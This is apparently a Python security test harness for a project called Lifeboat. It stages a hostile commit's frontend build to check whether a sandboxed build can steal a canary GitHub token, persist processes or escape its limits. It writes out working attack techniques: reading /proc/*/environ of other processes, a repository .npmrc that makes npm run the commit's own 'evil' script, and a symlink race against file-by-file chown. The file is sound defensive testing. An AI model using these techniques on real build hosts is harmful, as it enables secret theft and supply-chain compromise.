#!/usr/bin/env python3
# Copyright: Lifeboat contributors
# GNU General Public License v3.0 or later (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The attack: a frontend's build reads what is not its own, and leaves a process behind (left_behind.py).

It uses modules, files and signals only. The build is that of a hostile commit in a repository of this machine.

Usage: hostile_build.py product|unprotected CASE DIRECTORY

product: the modules that the playbook recover_frontend plans, builds and publishes with. unprotected: a build as it is
commonly done, as an unprivileged user whose environment `env` empties, in a tree that root gives to him file by file.
Where a moment counts the attacker gets it there: `env` starts late, and root waits for him once.

CASE, which says what the commit's build does:
  leaves    it leaves a process behind. Then it is built once more.
  looks     its first command looks around, which may fetch packages, and its second, which needs no network. What
            they saw is written to DIRECTORY/fetches and DIRECTORY/builds.
  npmrc     its first command is `npm install`, and the commit's own `.npmrc` names what npm takes for git.
  time      it leaves a process behind, and ends neither by itself nor when it is told to.
  killed    the same, and somebody kills what root started for it, with SIGKILL.

Prints what the attacker got, a line each. Exit 0: he got something.
"""

from __future__ import annotations

import contextlib
import fcntl
import functools
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator, Sequence
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Callable

import ended
import left_behind
import machine

NOBODY = 65534
STACK = f"attacked-build-{os.getpid()}"  # its lock is the machine's, where others may run this too
PYTHON = "/usr/bin/python3"  # ours may lie where nobody may look
TOKEN = "ghp_canary"
LOOK = (
    f"{PYTHON} -c 'import socket; print(socket.create_server((\"127.0.0.1\", 0)).getsockname()[0])';"
    " cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline; cat /proc/net/dev"
)
NPM = ["npm", "install", "--no-audit", "--no-fund"]
LATE = """
import os, sys, time
for _ in range(30_000):
    if os.path.exists(sys.argv[1]):
        break
    time.sleep(0.02)
os.execvp(sys.argv[2], sys.argv[2:])
"""
PATIENCE = 600  # seconds at most, on a machine that is busy


class Site(SimpleHTTPRequestHandler):
    def log_message(self, format: str, *_: object) -> None:
        pass


class World:
    """A machine: root's directory with a file, a place for loot, a repository, and a site where builds go."""

    def __init__(self, root: Path) -> None:
        self.root, self.loot, self.target, self.trees = root, root / "loot", root / "target", root / "trees"
        self.site = root / "site"
        for place in (self.loot, self.target, self.trees, self.site):
            place.mkdir()
        root.chmod(0o755)
        self.loot.chmod(0o777)
        self.victim = self.target / "victim"
        self.victim.write_text("root's")
        shutil.copyfile(left_behind.__file__, root / "left_behind.py")
        self.repository = root / "repository"
        (self.repository / "x/y").mkdir(parents=True)
        (self.repository / "x/y/victim").write_text("the attacker's")
        self.package = root / "package"
        self.package.mkdir()
        (self.package / "package.json").write_text('{"name": "of-a-stranger", "version": "1.0.0"}')
        self.commit_all(self.package)
        handed_over(self.package, waits=False)  # git reads nobody else's repository
        needs = {"of-a-stranger": f"git+file://{self.package}"}
        site = {"name": "site", "version": "1.0.0", "dependencies": needs}
        (self.repository / "package.json").write_text(json.dumps(site))
        (self.repository / ".npmrc").write_text("git=./evil\n")
        evil = self.repository / "evil"
        evil.write_text(f"#!/bin/sh\nenv >{self.loot}/ran\nexit 1\n")
        evil.chmod(0o755)
        self.commit = self.commit_all(self.repository)

    def commit_all(self, repository: Path) -> str:
        def git(*words: str) -> str:
            command = ["git", "-C", str(repository), *words]
            return subprocess.run(command, check=True, capture_output=True, text=True).stdout

        git("init", "--quiet", "--initial-branch=main")
        git("add", ".")
        git("-c", "user.name=a", "-c", "user.email=a@b", "commit", "--quiet", "--message=x")
        return git("rev-parse", "HEAD").strip()

    def left(self, target: str) -> list[str]:
        """The words that leave a process behind."""
        trees = f"/var/tmp/lifeboat-frontend-*/build-{self.commit[:12]}"
        trees = str(self.trees / "*") if target == "unprotected" else trees
        return [PYTHON, str(self.root / "left_behind.py"), str(self.loot), str(self.target), trees]

    def began(self) -> bool:
        lock = self.loot / "lock"
        return lock.exists() and bool(lock.read_text())

    def lives(self) -> bool:
        """Whether what the build left behind is still there."""
        with (self.loot / "lock").open("r+") as lock:
            try:
                fcntl.flock(lock, fcntl.LOCK_EX | fcntl.LOCK_NB)
            except BlockingIOError:
                return True
        return False

    def got(self) -> list[str]:
        if not self.began():
            raise SystemExit("nothing was left behind, which proves nothing")
        found = ["a process that lives on"] if self.lives() else []
        token = self.loot / "token"
        found += [f"a token: {token.read_text()}"] if token.exists() else []
        return found + (["root's own file"] if self.victim.stat().st_uid else [])

    def end(self) -> None:
        if self.began() and self.lives():
            os.kill(int((self.loot / "lock").read_text()), signal.SIGKILL)


def until(true: Callable[[], object], seconds: float = PATIENCE) -> None:
    end = time.monotonic() + seconds
    while time.monotonic() < end and not true():
        time.sleep(0.01)


# --- without protection -----------------------------------------------------------------------------------------------


def handed_over(tree: Path, *, waits: bool) -> None:
    """By path, file by file, as `chown -R` does it too."""
    os.chown(tree, NOBODY, NOBODY)
    for place, directories, files in os.walk(tree):
        if waits and place.endswith("x/y"):
            until(Path(place).is_symlink)
        for name in [*directories, *files]:
            os.chown(Path(place) / name, NOBODY, NOBODY, follow_symlinks=False)


def built(world: World, name: str, words: Sequence[str], *, again: bool = False) -> None:
    """again: something of the attacker's may be there already, and is waited for."""
    tree = world.trees / name
    shutil.copytree(world.repository, tree)
    handed_over(tree, waits=again)
    alone = ["env", "--ignore-environment", f"--chdir={tree}", f"GITHUB_SHA={world.commit}", *words]
    late = [PYTHON, "-c", LATE, str(world.loot / "token" if again else world.loot), *alone]
    rights = ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", "--no-new-privs"]
    environment = {**os.environ, "GITHUB_TOKEN": TOKEN}
    subprocess.run([*rights, *late], check=True, timeout=2 * PATIENCE, env=environment)


def unprotected(world: World, case: str, directory: Path) -> list[str]:
    if case == "looks":
        built(world, "first", ["sh", "-c", f"{{ {LOOK}; }} >{world.loot}/builds 2>&1"])
        return seen(world.loot / "builds", directory)
    if case == "npmrc":
        built(world, "first", [f"HOME={world.loot}", "sh", "-c", f"{' '.join(NPM)} || true"])
        return ran(world)
    built(world, "first", world.left("unprotected"))
    if not world.lives():
        raise SystemExit("the first build left nothing behind, which proves nothing")
    built(world, "second", ["/bin/true"], again=True)
    return world.got()


# --- by Lifeboat ------------------------------------------------------------------------------------------------------


def commands(world: World, case: str) -> list[list[str]]:
    """What is in the settings as the frontend's build."""
    left = world.left("product")
    publish = "mkdir dist; echo x >dist/index.html; echo $GITHUB_SHA >dist/version.txt; mv fetches builds dist"
    looks = [f"{{ {LOOK}; }} >{which} 2>&1" for which in ("fetches", "builds")]
    return {
        "leaves": [left],
        "looks": [["sh", "-c", looks[0]], ["sh", "-c", f"{looks[1]}; {publish}"]],
        "npmrc": [
            NPM,
            ["sh", "-c", f"test -f node_modules/of-a-stranger/package.json; {publish.partition('; mv')[0]}"],
        ],
        "time": [["sh", "-c", f"{' '.join(left)}; trap '' TERM; while :; do sleep 0.1; done"]],
        "killed": [["sh", "-c", f"{' '.join(left)}; sleep 600"]],
    }[case]


@contextlib.contextmanager
def recovering(world: World, case: str) -> Iterator[subprocess.Popen[str]]:
    """The recovery as it runs, by the modules of the playbook. The site is served, so that it may see what it
    published."""
    handler = functools.partial(Site, directory=str(world.site))
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        threading.Thread(target=server.serve_forever, args=(0.01,), daemon=True).start()
        url = f"http://127.0.0.1:{server.server_port}/"
        settings = {
            "stack": STACK,
            "runtime": {"type": "host", "project_directory": str(world.root)},
            "database": {"service": ""},
            "repository": {"type": "local", "path": str(world.root / "backup")},
            "state_directory": str(world.root / "state"),
            "frontend": {
                "url": url, "repository": "a/b", "api_url": "http://127.0.0.1:9", "directory": ".", "output": "dist",
                "remote_url": str(world.repository), "marker": "version.txt", "build": commands(world, case),
                "build_timeout": 20 if case == "time" else 120,
                "fallback": {"directory": str(world.site), "url": url},
            },
        }  # fmt: skip
        environment = machine.with_modules({**os.environ, "GITHUB_TOKEN": TOKEN})
        try:
            for last in (False, True) if case == "leaves" else (True,):
                asked = {"settings": settings, "method": "fallback", "force": True}
                plan = machine.planned(world.root, "frontend_plan_info", asked, environment)
                process = subprocess.Popen(
                    machine.module(world.root, "frontend_recover", {"settings": settings, "plan": plan}),
                    stdout=subprocess.PIPE, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL, text=True,
                    env=environment,
                )  # fmt: skip
                try:
                    if last:
                        yield process
                    said = process.communicate()[0]
                finally:
                    process.kill()
                print(said, file=sys.stderr)
                if process.returncode and '"failed": true' not in said:  # a module's answer that it failed is one
                    raise SystemExit("the recovery did not run, which proves nothing")
        finally:
            server.shutdown()


def product(world: World, case: str, directory: Path) -> list[str]:
    with recovering(world, case) as process:
        if case == "killed":
            until(lambda: world.began() or process.poll() is not None)
            for pid in spaces(world):
                os.kill(pid, signal.SIGKILL)
            until(lambda: not world.lives(), 30)
            found = world.got()
            world.end()
            return found
    if case == "time":
        return world.got()
    if case == "npmrc" and ran(world):
        return ran(world)
    index = world.site / "index.html"
    if not index.is_file():
        raise SystemExit("nothing was published, so that nothing is shown")
    if {path.stat().st_uid for path in world.site.rglob("*")} != {0}:
        return ["files of the site that are his"]
    if case in ("leaves", "npmrc"):
        return world.got() if case == "leaves" else ran(world)
    return [*seen(world.site / "fetches", directory), *seen(world.site / "builds", directory)]


def spaces(world: World) -> list[int]:
    """What root started to build: each unshare(1) that has the tool in its words."""
    found = []
    for place in Path("/proc").glob("[0-9]*/cmdline"):
        with contextlib.suppress(OSError):
            words = place.read_bytes().split(b"\0")
            if words[0] == b"unshare" and str(world.root).encode() in b" ".join(words):
                found.append(int(place.parent.name))
    if not found:
        raise SystemExit("no build runs that could be killed, which proves nothing")
    return found


def ran(world: World) -> list[str]:
    """Whether the commit's own program ran where packages are fetched."""
    return ["a program of the commit, with the network"] if (world.loot / "ran").exists() else []


# --- what it saw ------------------------------------------------------------------------------------------------------


def seen(file: Path, directory: Path) -> list[str]:
    """What of it was not for the build to see: who fetches packages may have the network."""
    text = file.read_text(errors="replace")
    (directory / file.name).write_text(text)
    if not text.startswith("127.0.0.1\n") or "GITHUB_SHA" not in text:
        raise SystemExit(f"it does not reach itself, or did not look around: {text[:500]}")
    found = [f"a secret of the host: {TOKEN}"] if TOKEN in text else []
    found += ["processes of the host"] if Path(__file__).name in text else []
    networks = [line.partition(":")[0].strip() for line in text.splitlines() if re.match(r" *[\w@.-]+: +\d", line)]
    host = re.findall(r"(?m)^ *([\w@.-]+):", Path("/proc/net/dev").read_text())
    if file.name == "fetches" and networks != host:
        raise SystemExit(f"what fetches packages has the networks {networks} only, and can fetch nothing")
    return found + (["the network"] if file.name == "builds" and networks != ["lo"] else [])


def main() -> int:
    os.umask(0o022)
    target, case, directory = sys.argv[1], sys.argv[2], Path(sys.argv[3]).resolve()
    with tempfile.TemporaryDirectory(prefix="lifeboat-") as made:  # not below DIRECTORY, where nobody else may look
        world = World(Path(made))
        try:
            found = {"product": product, "unprotected": unprotected}[target](world, case, directory)
        finally:
            world.end()
    print("".join(f"{line}\n" for line in found), end="")
    return 0 if found else 1


if __name__ == "__main__":
    ended.end(main, STACK)
